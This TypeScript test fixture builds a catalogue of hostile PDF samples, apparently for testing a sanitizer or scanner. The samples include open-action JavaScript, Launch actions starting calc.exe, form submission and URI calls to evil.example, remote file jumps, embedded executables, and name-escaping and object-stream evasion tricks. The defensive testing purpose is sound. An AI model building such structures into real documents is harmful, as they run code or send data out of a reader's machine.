import { deflateSync } from 'node:zlib'
import { drawn, pagePdf } from './page-pdf.ts'

const script = '/S /JavaScript /JS (app.alert\\(1\\))'
const annot = (more: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] ${more} >>]`

/** The same file with its sixth object inside an object stream, and a cross-reference stream (ISO 32000-2, 7.5.7 and 7.5.8). */
const inObjectStream = (hidden: string): Buffer => {
  const content = `6 0 ${hidden}`
  const packed = deflateSync(content)
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> >>',
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  bodies.forEach((body, index) => {
    places.push(length())
    parts.push(Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`))
  })
  const stream = length()
  parts.push(
    Buffer.from(`7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  )
  const table = length()
  const row = (kind: number, place: number, last: number) => [kind, place >> 8, place & 255, last]
  const rows = Buffer.from([
    ...row(0, 0, 0),
    ...places.flatMap((place) => row(1, place, 0)),
    ...row(2, 7, 0),
    ...row(1, stream, 0),
    ...row(1, table, 0),
  ])
  parts.push(
    Buffer.from(`8 0 obj\n<< /Type /XRef /Size 9 /W [1 2 1] /Root 1 0 R /Length ${rows.length} >>\nstream\n`),
    rows,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${table}\n%%EOF\n${'% \n'.repeat(300)}`),
  )
  return Buffer.concat(parts)
}

/** PDFs that run, open, send or attach something, by kind; each has a page worth keeping. */
export const HOSTILE_PDFS: Readonly<Record<string, Buffer>> = {
  'a script on opening': pagePdf({ catalog: `/OpenAction << ${script} >>` }),
  'a script under an escaped name': pagePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
  'a script in the names of the document': pagePdf({
    catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
  }),
  'a script in an object stream': inObjectStream(`<< ${script} >>`),
  'a launch in an object stream, escaped': inObjectStream('<< /S /L#61unch /F (calc.exe) >>'),
  'a script when a page opens': pagePdf({ page: `/AA << /O << ${script} >> >>` }),
  'a link that runs a script': pagePdf({ page: annot(`/A << ${script} >>`) }),
  'a link that starts a program': pagePdf({ page: annot('/A << /S /Launch /F (calc.exe) >>') }),
  'a jump to another file': pagePdf({ page: annot('/A << /S /GoToR /F (\\\\\\\\evil\\\\share.pdf) /D [0 /Fit] >>') }),
  'a jump into an embedded file': pagePdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>' }),
  'an address that is called': pagePdf({ page: annot('/A << /S /URI /URI (http://evil.example/track) >>') }),
  'a form that sends itself': pagePdf({ page: annot('/A << /S /SubmitForm /F (http://evil.example) >>') }),
  'data that is imported': pagePdf({ catalog: '/OpenAction << /S /ImportData /F (a.fdf) >>' }),
  'an embedded file': pagePdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> /AF [6 0 R]',
    more: [
      { dictionary: '/Type /Filespec /F (a.exe) /EF << /F 7 0 R >>' },
      { dictionary: '/Type /EmbeddedFile', stream: 'MZ-EVIL-PROGRAM' },
    ],
  }),
  'rich media': pagePdf({
    page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]',
  }),
  'a form of XFA': pagePdf({
    catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>',
    more: [{ dictionary: '', stream: '<script>evil</script>' }],
  }),
  'an action deep in the resources': pagePdf({
    resources: `/Properties << /P1 << /Next << ${script} >> /A << /S /Launch /F (calc) >> >> >>`,
  }),
  'an action in a drawing, as its own object': pagePdf({
    resources: '/XObject << /X1 6 0 R >>',
    more: [
      {
        dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /AA 7 0 R /PieceInfo << /X 7 0 R >>',
        stream: 'q Q',
      },
      { dictionary: script },
    ],
  }),
  'a program for the printer': pagePdf({
    resources: '/XObject << /X1 6 0 R >>',
    more: [{ dictionary: '/Type /XObject /Subtype /PS', stream: 'systemdict EVIL-PROGRAM' }],
  }),
  'a stream read from elsewhere': pagePdf({
    resources: '/XObject << /X1 6 0 R >>',
    more: [
      {
        dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (\\\\\\\\evil\\\\x) /FFilter /FlateDecode',
        stream: '',
      },
    ],
  }),
  'a web page before it': Buffer.concat([Buffer.from('<html><script>evil()</script></html>\n'), pagePdf()]),
  'an archive behind it': Buffer.concat([pagePdf(), Buffer.from('PK\u0003\u0004EVIL-PROGRAM'.repeat(20), 'latin1')]),
  'a web page between its objects': pagePdf({ more: [{ dictionary: '/Note (<script>EVIL-PROGRAM</script>)' }] }),
}
